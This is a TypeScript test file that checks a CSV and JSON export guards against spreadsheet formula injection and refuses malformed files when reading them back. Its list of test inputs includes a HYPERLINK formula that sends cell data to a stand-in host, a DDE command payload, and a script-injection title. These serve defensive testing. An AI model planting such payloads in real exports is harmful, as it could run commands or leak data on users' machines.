/** @file Tables as files, of texts that a spreadsheet would take for formulas, or for more cells than there are. */

import { expect } from "vitest";
import { csvTable } from "../lib/csv.ts";
import { attacks, refused } from "../lib/testing/attacks.ts";
import { toCsv, toJson, type Figure } from "./figure.ts";
import { csvRecords, fromCsv, fromJson } from "./testing/readFigure.ts";

const EVIL = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "=cmd|'/c calc'!A1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(A1)",
  '",=1+1,"',
  ";=1+1",
] as const;

const figure = (text: string): Figure => ({
  kind: "parts",
  id: "parts",
  title: text,
  caption: text,
  columns: [{ name: "a", label: "a", unit: "", type: "text" }],
  guides: [],
  source: { model: text } as unknown as Figure["source"],
  rows: [{ a: text }],
});

/** Every cell that a spreadsheet would find, at commas and at semicolons, quotes understood only where a cell begins. */
const cells = (text: string): string[] =>
  [",", ";"].flatMap((delimiter) =>
    csvRecords(text.replaceAll("\r\n", "\n"), delimiter).flatMap((row) => row.map((cell) => cell.text)),
  );
const FORMULA = /^[\s]*[=+@\uff1d\uff0b\uff0d\uff20]|^[\s]*-[^\d]/;

attacks(
  "exports",
  Object.fromEntries(
    EVIL.map((text) => [
      `a table with the text ${JSON.stringify(text)}`,
      () => {
        const written = csvTable(["name"], [[text]]);
        const [, [cell] = []] = csvRecords(written);
        expect(cell!.text).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
        expect(cell!.text.replace(/^'/, "")).toBe(text);
      },
    ]),
  ),
);

attacks("exports", {
  "a title that ends its line of the head and begins a formula": {
    fault:
      "a comma in a title, a caption or a model's name began a new cell of the head, with whatever followed it",
    attack: () => {
      for (const text of ['",=1+1,"', ";=1+1", "a,=1+1", ",@SUM(A1)"]) {
        const head = toCsv(figure(text))
          .split("\n")
          .filter((line) => line.startsWith("# "));
        for (const line of head)
          for (const cell of cells(`${line}\n`)) expect(cell, line).not.toMatch(FORMULA);
        expect(fromCsv(toCsv(figure(text)))).toEqual(figure(text));
      }
    },
  },
  "full-width signs, where they begin a formula too": {
    fault: "were written as they stood",
    attack: () => expect(csvTable(["a"], [["\uff1d1+1"]])).toContain("'\uff1d1+1"),
  },
  "a line break in a title": () => {
    const written = toCsv(figure("x\n=1+1"));
    // The only cell that holds it is quoted, and goes on over the line end.
    expect(written.split("\n").filter((line) => line.startsWith("="))).toEqual(['=1+1"']);
    expect(fromCsv(written)).toEqual(figure("x\n=1+1"));
  },
  "a quote that never ends, read back": () => refused(() => fromCsv(`${toCsv(figure("x"))}"x`), /./),
  "a figure that is none, read back": async () => {
    await refused(() => fromCsv("=1+1"), /the file has format/);
    await refused(() => fromJson('{"format":"evil"}'), /the file has format/);
  },
  "a script as a title, in JSON": () => {
    const evil = "</script><script>steal()</script>";
    expect(fromJson(toJson(figure(evil)))).toEqual(figure(evil));
  },
});
